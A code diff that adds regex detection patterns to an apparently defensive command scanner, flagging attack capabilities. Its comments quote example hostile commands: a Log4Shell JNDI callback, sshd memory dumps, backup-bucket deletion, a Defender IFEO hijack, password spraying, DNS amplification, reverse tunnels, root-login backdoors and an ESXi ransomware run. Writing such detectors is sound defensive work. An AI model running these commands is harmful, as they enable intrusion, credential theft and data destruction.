@@ -351,6 +351,10 @@ class Capability(StrEnum):
         "attaches a signed-in desktop session to another connection without its password (tscon)"
     )
     SESSION_LIST = "lists the users signed in to a machine and their sessions"
+    DATASTORES_SEIZED = (
+        "kills every virtual machine of a host, then runs a program from a scratch folder over "
+        "its datastores"
+    )
 
 
 @dataclass(frozen=True)
@@ -690,7 +694,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(
-            r"\brclone\s+(?:copy|sync|move)\b[^\n]*\s\w+:",
+            r"\brclone(?:\.exe)?\s+(?:copy|sync|move)\b[^\n]*\s\w+:",
+            _I,
+        ),
+        # a recording pushed live to a streaming server named only by its public address
+        # (`ffmpeg -f v4l2 -i /dev/video0 ... -f flv rtmp://203.0.113.244/live/x`); a stream to
+        # a platform's ingest host by name is a broadcast
+        re.compile(
+            r"\bffmpeg\b[^\n|;&]*\s['\"]?(?:rtmps?|srt|rtsp|udp|tcp)://"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b",
             _I,
         ),
         re.compile(
@@ -1126,6 +1139,18 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
     ),
+    Capability.EXPLOIT_RUN: (
+        # a JNDI lookup (Log4Shell) sent in a request to other sites, calling back to an LDAP
+        # or RMI server at a public address (`curl -H 'User-Agent: ${jndi:ldap://203.0.113.45:
+        # 1389/Exploit}' https://$h/`): each vulnerable server loads and runs the caller's
+        # class; a lookup at one's own machine or network tests one's own filter
+        re.compile(
+            r"\b(?:curl|wget|http|Invoke-WebRequest|iwr|nuclei)\b[^\n]*?\$\{jndi:(?:ldaps?|rmi|dns|iiop)://"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b",
+            _I,
+        ),
+    ),
     Capability.SHADOW_DELETE: (
         # a bucket's versioning suspended and its objects deleted, or backup recovery points and
         # vaults deleted: the way back removed with the data
@@ -1166,7 +1191,20 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # (`--delete-automated-backups`, `DeleteAutomatedBackups=True`)
         re.compile(
             r"\bobject_versions(?:\.all\(\))?\.delete\s*\(|\bdelete-objects\b[^\n]*\blist-object-versions\b"
-            r"|\.delete_(?:recovery_point|backup_vault)\s*\(|--delete-automated-backups\b|\bDeleteAutomatedBackups\s*=\s*True\b",
+            r"|\.delete_(?:recovery_point|backup_vault)\s*\(|--delete-automated-backups\b|\bDeleteAutomatedBackups\s*=\s*True\b"
+            r"|\blist-object-versions\b[^\n]*?\bdelete-objects\b",
+        ),
+        # a bucket or repository that keeps backups emptied or removed whole (`aws s3 rm
+        # s3://corp-backups --recursive`, `aws s3 rb s3://db-backups --force`, `gsutil rm -r
+        # gs://nightly-backups`, `s3api delete-bucket --bucket x-backups`), or every snapshot
+        # of a backup repository forgotten (`restic forget --keep-last 0`): one dated prefix
+        # (`s3://corp-backups/2024-01/`) or snapshots pruned by age stay retention
+        re.compile(
+            r"\b(?:aws\s+s3\s+(?:rm|rb)|gsutil\s+(?:-m\s+)?(?:rm|rb)|gcloud\s+storage\s+(?:rm|buckets\s+delete))\s+(?:-\w+\s+)*"
+            r"(?:s3|gs)://[\w.-]*backup[\w.-]*/?(?=[\s'\"]|$)"
+            r"|\bdelete-bucket\s+--bucket\s+['\"]?[\w.-]*backup"
+            r"|\brestic\b[^\n|;&]*\bforget\b[^\n|;&]*--keep-last[\s=]+0\b",
+            _I,
         ),
     ),
     Capability.AUDIT_ROWS_DELETED: (
@@ -1243,6 +1281,18 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"(?:[\w.-]{1,64}\s+){0,6}?[\w.-]{0,40}"
             + _STOPPED
             + r"[\w.-]{0,40}(?:\s+[\w.-]{1,64}){0,6}\s*;\s*do\b",
+            _I,
+        ),
+        # one `taskkill` given three or more such images (`taskkill /F /IM veeam* /IM
+        # BackupExec* /IM sqlservr.exe`), or `Stop-Process` their names in one list
+        re.compile(
+            r"\btaskkill(?:\.exe)?\b(?:[^\n&|;]*?\s/IM\s+['\"]?[\w.*-]{0,30}?"
+            + _STOPPED
+            + r"[\w.*-]{0,30}['\"]?){3}"
+            r"|\bStop-Process\b[^\n|;]*?-Name\s+(?:['\"]?[\w.*-]{0,30}?"
+            + _STOPPED
+            + r"[\w.*-]{0,30}['\"]?\s*,\s*(?:['\"]?[\w.*-]{1,30}['\"]?\s*,\s*){0,3}){2}['\"]?[\w.*-]{0,30}?"
+            + _STOPPED,
             _I,
         ),
     ),
@@ -1533,6 +1583,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"logonpasswords|lsadump::|Invoke-Mimikatz|nanodump\S*\s+[^\n]*--write", _I),
         re.compile(r"privilege::debug", _I),
         re.compile(r"\blsass(?:\.exe|\.dmp)?\b", _I),
+        # Linux's counterpart: the memory of a process that holds typed passwords (an SSH
+        # session's sshd, sudo, su, the desktop's sign-in or keyring) picked for a dump by
+        # name (`gcore -o /tmp/m $(pgrep -f 'sshd: .*@pts')`, `/proc/$(pidof sudo)/mem`)
+        re.compile(
+            r"\bgcore\b[^\n|;&]*?\$\(\s*(?:pgrep|pidof)\b[^\n)]*?\b(?:sshd|sudo|su|login|gdm-password|gnome-keyring-daemon|lightdm|passwd)\b"
+            r"|/proc/\$\(\s*(?:pgrep|pidof)\b[^\n)]*?\b(?:sshd|sudo|su|login|gdm-password|gnome-keyring-daemon|lightdm|passwd)\b[^\n)]*\)/mem\b",
+            _I,
+        ),
     ),
     Capability.HIVE_DUMP: (
         re.compile(
@@ -1549,7 +1607,7 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"MiniDumpWriteDump|comsvcs(?:\.dll)?[^\n]*MiniDump|procdump(?:64)?(?:\.exe)?\s+[^\n]*-ma\b|sekurlsa::|Out-Minidump|nanodump|pypykatz|mimikatz",
             _I,
         ),
-        re.compile(r"\bgcore\b|/proc/\$?\w+/mem\b", _I),
+        re.compile(r"\bgcore\b|/proc/(?:\$?\w+|\$\([^)\n]*\))/mem\b", _I),
     ),
     Capability.AUTORUN: (
         # Ansible's cron module writing a job onto the hosts it runs on
@@ -1876,6 +1934,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"\$\w+\[\s*\$\w+\s*\]\s*=\s*\$\w+\[\s*\$\w+\s*\]\s*-bxor\b", _I),
     ),
     Capability.DEFENDER_OFF: (
+        # a security product's program given a "debugger" under Image File Execution Options
+        # (`...\Image File Execution Options\MsMpEng.exe /v Debugger /d systray.exe`): Windows
+        # starts the other program instead, so the product never runs again
+        re.compile(
+            r"Image File Execution Options\\+[\w.-]*(?:"
+            + "|".join(STOPPED_SECURITY)
+            + r"|MsSense|SecurityHealthService|NisSrv|SenseIR|smartscreen)[\w.-]*(?:\.exe)?\b[^\n]*\bDebugger\b",
+            _I,
+        ),
         # a cluster's runtime-security sensor or admission policy engine removed or scaled to
         # nothing (`kubectl -n falco delete daemonset falco`, `helm uninstall falco`); deleting
         # one of its pods only restarts it
@@ -2173,6 +2240,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"masscan\b|nmap\b[^\n]*\s\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/\d{1,2}", _I),
     ),
     Capability.WORDLIST: (
+        # a cloud sign-in sprayer's spraying mode: a list of users each tried with the password
+        # given (`o365spray.py --spray -U users.txt -p 'Winter2025!'`, `Invoke-MSOLSpray`,
+        # `trevorspray -u users.txt -p ...`, `spray365.py spray`); validating the tenant or
+        # listing the tool's help tries no password
+        re.compile(
+            r"\bo365spray(?:\.py)?\b[^\n|;&]*\s--spray\b|\bInvoke-(?:MSOLSpray|DomainPasswordSpray)\b"
+            r"|\btrevorspray(?:\.py)?\b[^\n|;&]*\s(?:-u|--users)\s|\bspray365(?:\.py)?\s+spray\b"
+            r"|\bcredmaster(?:\.py)?\b[^\n|;&]*\s--plugin\b|\batomizer(?:\.py)?\s+(?:owa|lync|imap)\b",
+            _I,
+        ),
         # password spraying: a list of users or passwords given to a network login tool
         # (`nxc smb 10.0.0.0/24 -u users.txt -p 'Spring2024!'`, `kerbrute passwordspray ...`)
         re.compile(
@@ -2259,8 +2336,26 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\b(?:hashcat|john)\b(?>[^\n|;&]*?\s--show\b)(?>[^\n|;&]*)\|\s*(?:wc\b|Measure-Object\b|find\s+/c\b)",
             _I,
         ),
+        # an audit's run kept apart: its own potfile, cracks listed by account into a file
+        # (`hashcat -m 1000 ... --potfile-path audit.pot -o weak-accounts.txt --username`), not
+        # printed; all three pieces, in any order
+        re.compile(
+            r"\bhashcat\b(?=[^\n|;&]*\s--potfile-path[=\s])(?=[^\n|;&]*\s--username\b)"
+            r"(?=[^\n|;&]*\s(?:-o|--outfile)[=\s])[^\n|;&]*",
+            _I,
+        ),
     ),
     Capability.LOGIN_ATTEMPT: (
+        # a cloud sign-in sprayer's spraying mode: a list of users each tried with the password
+        # given (`o365spray.py --spray -U users.txt -p 'Winter2025!'`, `Invoke-MSOLSpray`,
+        # `trevorspray -u users.txt -p ...`, `spray365.py spray`); validating the tenant or
+        # listing the tool's help tries no password
+        re.compile(
+            r"\bo365spray(?:\.py)?\b[^\n|;&]*\s--spray\b|\bInvoke-(?:MSOLSpray|DomainPasswordSpray)\b"
+            r"|\btrevorspray(?:\.py)?\b[^\n|;&]*\s(?:-u|--users)\s|\bspray365(?:\.py)?\s+spray\b"
+            r"|\bcredmaster(?:\.py)?\b[^\n|;&]*\s--plugin\b|\batomizer(?:\.py)?\s+(?:owa|lync|imap)\b",
+            _I,
+        ),
         re.compile(
             r"\b(?:nxc|netexec|kerbrute)\s+(?:smb|ssh|winrm|rdp|ldap|mssql|ftp|wmi|vnc|passwordspray|bruteuser|bruteforce)\b",
             _I,
@@ -2531,6 +2626,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\b(?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|mongoexport)\b|\bsqlite3\s+\S+\s+['\"]?\.dump\b|\bCOPY\s*\(?\s*(?:SELECT\b[^\n]*?\)|\w+)\s*TO\s+PROGRAM\b",
             _I,
         ),
+        # a whole disk read raw into a pipe (`dd if=/dev/sda bs=4M | gzip | ...`): every file
+        # of every user on it, dumped at once like a database
+        re.compile(
+            r"\bdd\b[^\n|;&]*\bif=/dev/(?:sd[a-z]|nvme\d+n\d+|vd[a-z]|xvd[a-z]|hd[a-z]|mmcblk\d+|disk\d+|rdisk\d+|md\d+|mapper/)[^\n|;&]*\|",
+            _I,
+        ),
     ),
     Capability.ARCHIVE: (
         re.compile(
@@ -2545,6 +2646,11 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         # an extension compared without its dot (VBScript's `If ext = "docx" Or ...`)
         re.compile(r"\bext\w*\s*={1,3}\s*['\"](?:docx?|xlsx?|pptx?|pdf|kdbx|pst)['\"]", _I),
+        # a brace list of extensions in a filter (`--include "*.{xlsx,pdf,docx}"`)
+        re.compile(
+            r"\b(?:include|filter)\b[^\n]*?\.\{[^}\n]*\b(?:docx?|xlsx?|pptx?|pdf|kdbx|pst)\b[^}\n]*\}",
+            _I,
+        ),
     ),
     Capability.TUNNEL_TOOL: (
         re.compile(
@@ -2776,6 +2882,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.DOS_TOOL: (
+        # a reflection run: a list of open resolvers or other reflectors, an amplifying query
+        # (DNS `ANY`, NTP `monlist`) and the victim named as the target (`amp.py --target IP
+        # --resolvers open.txt --qtype ANY`); a resolver list alone is a DNS survey's
+        re.compile(
+            r"--(?:resolvers?|reflectors?|amplifiers?|servers)[=\s]+\S+"
+            r"(?=[^\n|;&]*\s--(?:target|victim)\b)(?=[^\n|;&]*(?:[\s=]ANY\b|\bmonlist\b))"
+            r"|--(?:target|victim)[=\s]+\S+(?=[^\n|;&]*\s--(?:resolvers?|reflectors?|amplifiers?|servers)[=\s])"
+            r"(?=[^\n|;&]*(?:[\s=]ANY\b|\bmonlist\b))",
+        ),
         # mdk3/mdk4's other flooding modes: authentication, beacon, EAPOL, Michael, WIDS
         re.compile(r"\bmdk[34]\s+\S+\s+[abemw]\b", _I),
         # slow-request and TLS-renegotiation exhausters aimed at another host (not loopback)
@@ -2969,8 +3084,18 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(r"\bping\b[^\n]*\s-f\b", _I),
+        # a load tool told to send a million requests or more from five hundred or more
+        # concurrent clients at a remote host (`ab -n 10000000 -c 1000 https://...`), or to
+        # keep five hundred clients at it for ten minutes or more (`siege -c 500 -t 60M`): far
+        # past any test of one's own capacity (`ab -n 2000 -c 20`, `hey -c 20 -q 10`)
         re.compile(
-            r"(?:while\s*\(\s*(?:1|true)\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{?\s*(?:\w+\s*=\s*)?(?:sendto|send|write)\s*\(|while\s+(?:True|1)\s*:\s*\n\s*\w+\.send(?:to|all)?\s*\(",
+            r"\b(?:(?:ab|hey)\s+(?=(?:[^\n|;&]*\s)?-n\s*\d{7,}\b)(?=(?:[^\n|;&]*\s)?-c\s*(?:[5-9]\d{2}|\d{4,})\b)"
+            r"|siege\s+(?=(?:[^\n|;&]*\s)?-c\s*(?:[5-9]\d{2}|\d{4,})\b)(?=(?:[^\n|;&]*\s)?-t\s*(?:[1-9]\d+M|\d+H)\b))"
+            r"(?![^\n|;&]*\b(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])\b)[^\n|;&]*",
+        ),
+        re.compile(
+            # (also a socket object's method, Perl's `$s->send(...)`, Ruby's and JS's `s.send(...)`)
+            r"(?:while\s*\(\s*(?:1|true)\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{?\s*(?:\$?\w+\s*=\s*)?(?:(?:\$?\w+(?:->|\.))?(?:sendto|send)|write)\s*\(|while\s+(?:True|1)\s*:\s*\n\s*\w+\.send(?:to|all)?\s*\(",
             _I,
         ),
     ),
@@ -3228,6 +3353,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(r"\bln\s+-\w*s\w*\s+/dev/null\s+\S*_history", _I),
+        # the histories of two or more other programs removed at once (vim's `.viminfo`,
+        # less's `.lesshst`, the Python, MySQL or psql shells' histories): what was opened and
+        # typed erased; one corrupt `.viminfo` removed is a repair
+        re.compile(
+            r"\b(?:rm|shred|unlink)\b[^\n|;&]*?(?:\.viminfo|\.lesshst|\.(?:python|mysql|psql|sqlite|node_repl|rediscli)_history)(?![\w-]|\.\w)"
+            r"[^\n|;&]*?(?:\.viminfo|\.lesshst|\.(?:python|mysql|psql|sqlite|node_repl|rediscli)_history)(?![\w-]|\.\w)",
+            _I,
+        ),
         # the history file itself removed or emptied: a copy beside it (`.bash_history.bak`)
         # is another file, and a redirection from a command that writes lines
         # (`grep -v TOKEN copy > ~/.bash_history`) rewrites the history rather than empties it
@@ -3872,6 +4005,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"\.src\s*=\s*[^\n]*[?&][\w-]*=[^\n]*\.(?:slice|substr(?:ing)?)\s*\(", _I),
     ),
     Capability.FORMAT_AND_MOUNT: (
+        # a second disk given a partition table and one partition, which the same line then
+        # formats (`parted /dev/sdb --script mklabel gpt mkpart data ext4 1MiB 100% && mkfs.ext4
+        # /dev/sdb1`): a new disk set up, like Windows' `Initialize-Disk; New-Partition`; the
+        # first disk (`sda`, `nvme0n1`), which the system runs from, is not one
+        re.compile(
+            r"\bparted\b[^\n|;&]*?(/dev/(?!(?:sd|hd|vd|xvd)a\b|nvme0n1\b|mmcblk0\b)(?:sd|hd|vd|xvd)[b-z]|/dev/(?:nvme[1-9]\d*n\d+|mmcblk[1-9]))\b"
+            r"[^\n|;&]*?\bmkpart\b[^\n]*?\b(?:mkfs(?:\.\w+)?|mke2fs)\b[^\n|;&]*?\1p?\d+(?![\w/-])",
+            _I,
+        ),
         re.compile(
             r"\b(?:mkfs(?:\.\w+)?|mke2fs)\b[^\n|;]*?(/dev/[\w/-]+)(?:(?!mkfs|mke2fs)[^\n])*?\bmount\s+(?:-\w+\s+(?:\S+\s+)?)*\1(?![\w/-])",
             _I,
@@ -3893,6 +4035,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.BLOCK_DEVICE_WRITE: (
+        # the machine's own firmware overwritten with its checks turned off (`flashrom -p
+        # internal -w /tmp/zero.bin --force --noverify`): the board no longer starts; reading
+        # it out (`-r`) or flashing a vendor image with its checks kept is maintenance
+        re.compile(
+            r"\bflashrom\b(?=[^\n|;&]*\s(?:-p|--programmer)[=\s]*internal\b)(?=[^\n|;&]*\s(?:-w|--write)\b)"
+            r"(?=[^\n|;&]*\s(?:--force|-f|--noverify|-n)\b)[^\n|;&]*",
+            _I,
+        ),
         # a Windows volume formatted or a disk cleared (`format D: /Q /Y`, `Format-Volume
         # -DriveLetter D`, `Clear-Disk -Number 1 -RemoveData`): mkfs on a device, for Windows,
         # unless the line sets the disk up anew (`Initialize-Disk`, `New-Partition`)
@@ -4089,6 +4239,36 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"|\bngrok\s+tcp\s+(?:[\w.-]+:)?(?:22|3389|5900|5901|5985|5986)(?!\d)",
             _I,
         ),
+        # Windows relaying a login port of another machine of its network from every address
+        # of its own (`netsh interface portproxy add v4tov4 listenport=8443
+        # listenaddress=0.0.0.0 connectport=3389 connectaddress=10.10.5.20`): a pivot into
+        # the network; a WSL or Hyper-V guest (172.16/12) reached from loopback is a setup
+        re.compile(
+            r"\bnetsh(?:\.exe)?\s+interface\s+portproxy\s+(?:add|set)\s+v4tov[46]\b"
+            r"(?![^\n|;&]*listenaddress=(?:127\.|localhost\b))"
+            r"(?=[^\n|;&]*connectport=(?:22|3389|5900|5901|5985|5986)\b)"
+            r"(?=[^\n|;&]*connectaddress=(?:10\.|192\.168\.))[^\n|;&]*",
+            _I,
+        ),
+        # the live desktop served over VNC with no password to any address (`x11vnc -display
+        # :0 -forever -nopw`, TigerVNC's `-SecurityTypes None`); bound to loopback for an SSH
+        # tunnel (`-localhost`) it reaches only who logs in
+        re.compile(
+            r"\b(?:x11vnc\b(?=[^\n|;&]*\s-nopw\b)|(?:x0vncserver|vncserver|Xvnc)\b(?=[^\n|;&]*-SecurityTypes[=\s]+None\b))"
+            r"(?![^\n|;&]*\s-(?:localhost|listen\s+(?:localhost|127\.0\.0\.1))\b)(?![^\n|;&]*-localhost\s+(?:yes|1)\b)[^\n|;&]*",
+            _I,
+        ),
+        # the same port forwarded to any address of a public host named only by its number,
+        # with the host's key left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
+        # 2222:localhost:22 tunnel@203.0.113.45`): a relay nobody vouches for, where one's own
+        # server is reached by name and its key is known
+        re.compile(
+            r"\b(?:ssh|autossh|plink(?:\.exe)?)\b(?=[^\n|;&]*StrictHostKeyChecking[=\s]+no\b)(?=[^\n|;&]*@"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b)[^\n|;&]*?\s-R\s*['\"]?"
+            r"(?:[\w.*\[\]-]*:)?\d+:[\w.-]+:(?:22|3389|5900|5901|5985|5986)(?!\d)",
+            _I,
+        ),
     ),
     Capability.PROXY_INTO_NETWORK: (
         # a reverse SOCKS proxy opened by a tunnelling client: chisel's reverse `socks` remote,
@@ -4261,6 +4441,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.AUDIT_OFF: (
+        # the machine's logs kept from reaching the collector: outgoing syslog or log-shipper
+        # traffic dropped (`iptables -I OUTPUT -p udp --dport 514 -j DROP`, Beats' 5044,
+        # Splunk's 9997, `New-NetFirewallRule -Direction Outbound -RemotePort 514 -Action
+        # Block`); incoming syslog from outside refused is a restriction
+        re.compile(
+            r"\b(?:ip6?tables|nft)\b[^\n|;&]*\bOUTPUT\b[^\n|;&]*--dport\s+(?:514|6514|601|1514|5044|9997|10514)\b[^\n|;&]*-j\s+(?:DROP|REJECT)\b"
+            r"|\bNew-NetFirewallRule\b(?=[^\n|;]*-Direction\s+Outbound\b)(?=[^\n|;]*-Action\s+Block\b)[^\n|;]*-RemotePort\s+(?:514|6514|601|1514|5044|9997|10514)\b",
+            _I,
+        ),
         # a cloud trail narrowed so it no longer records changes (management events off, only
         # reads recorded) or given no selectors at all
         re.compile(
@@ -4395,6 +4584,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(
             r"\bpasswd\s+(?:-\w+\s+)*-d\s+root\b|\busermod\s+(?:-\w+\s+)*-p\s*(?:''|\"\")\s+root\b"
             r"|\broot::(?:[^\n]*/etc/shadow|[\d:]*['\"/])|\bPermitEmptyPasswords\s+yes\b",
+            _I,
+        ),
+        # or root's remote sign-in by password switched on together with a new root password
+        # the command itself carries (`PermitRootLogin yes` ... `echo 'root:...' | chpasswd`):
+        # a door opened for whoever wrote the password, where a key (`prohibit-password`) or
+        # `PermitRootLogin no` keeps it shut
+        re.compile(
+            r"\bPermitRootLogin\s+yes\b[^\n]*?(?:['\"\s]root:[^\s'\":]+['\"]?\s*\|\s*(?:sudo\s+)?chpasswd\b|\bchpasswd\b[^\n|;&]*<<<\s*['\"]?root:)"
+            r"|(?:['\"\s]root:[^\s'\":]+['\"]?\s*\|\s*(?:sudo\s+)?chpasswd\b|\bchpasswd\b[^\n|;&]*<<<\s*['\"]?root:)"
+            r"[^\n]*?\bPermitRootLogin\s+yes\b",
             _I,
         ),
     ),
@@ -5097,6 +5296,14 @@ _MAILBOX_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"\bsaveToSentItems\b['\"]?\s*[:=]\s*(?:\$?false|0)\b", _I),
     ),
     Capability.MAIL_OWNER_BLIND: (
+        # an inbox rule named with punctuation alone (`New-InboxRule -Name '.'`, `'..'`): a
+        # line in the owner's rule list that reads as nothing, so the rule goes unnoticed
+        re.compile(
+            r"\b(?:New-InboxRule|Set-InboxRule)\b"
+            + _WRAPPED
+            + r"{0,400}?-Name\s+(['\"])[\s.,;:_~-]{1,3}\1",
+            _I,
+        ),
         # a message marked unread again after it was read or forwarded
         re.compile(r"\.UnRead\s*=\s*(?:True|\$true|-1)\b", _I),
         # an inbox rule that marks security warnings read and moves or deletes them
@@ -5182,6 +5389,18 @@ _SERVER_SIDE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
         re.compile(
             r"\bprocess_iter\s*\([^\n]*\benviron\b|\.environ\s*\(\s*\)[^\n]*\bprocess_iter\b"
+        ),
+    ),
+    Capability.DATASTORES_SEIZED: (
+        # every VM of an ESXi host killed (a loop over `esxcli vm process list` or `vim-cmd
+        # vmsvc/getallvms` forcing each off), then a program from a scratch folder run over
+        # `/vmfs/volumes`: the disks released and handed to it, an ESXi encryptor's run; a
+        # maintenance window shuts the machines down and runs nothing over the datastores
+        re.compile(
+            r"\b(?:esxcli\s+vm\s+process\s+list|vim-cmd\s+vmsvc/getallvms)\b[^\n]*?"
+            r"(?:esxcli\s+vm\s+process\s+kill\b|vim-cmd\s+vmsvc/power\.off\b)[^\n]*?"
+            r"(?:/tmp|/var/tmp|/dev/shm|/scratch)/[\w.-]+['\"]?\s+[^\n]*?/vmfs/volumes\b",
+            _I,
         ),
     ),
     Capability.DATA_STORE_DESTROY: (
